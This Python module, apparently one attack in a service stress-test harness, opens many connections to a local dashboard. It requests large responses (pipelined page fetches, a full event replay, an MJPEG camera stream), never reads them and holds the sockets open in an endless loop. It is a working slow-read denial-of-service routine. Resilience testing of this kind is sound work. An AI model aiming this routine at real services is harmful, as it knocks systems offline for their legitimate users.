"""Requests large answers, and reads none of them: pages, events from the beginning, MJPEG streams."""

import trio

from .target import UPGRADE, Target

HELD_S, SOCKETS, ROOM = 20.0, 10, 2048


async def attack(target: Target) -> None:
    """Three kinds of `SOCKETS` connections each, that are held for `HELD_S`, again and again."""
    asks = (
        b"GET /dashboard/main.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200,
        b"GET /ws/events?after=0 HTTP/1.1\r\nHost: localhost\r\n" + UPGRADE + b"\r\n",
        f"GET /cameras/{target.cameras[0]}/stream.mjpeg HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(),
    )
    async with trio.open_nursery() as nursery:
        for ask in asks:
            for _ in range(SOCKETS):
                nursery.start_soon(_hold, target, ask)


async def _hold(target: Target, ask: bytes) -> None:
    while True:
        with target.counting():
            async with await target.connect(ROOM) as stream:
                with trio.move_on_after(5):
                    await stream.send_all(ask)
                target.tally["held"] += 1
                await trio.sleep(HELD_S)
        await trio.sleep(0.5)
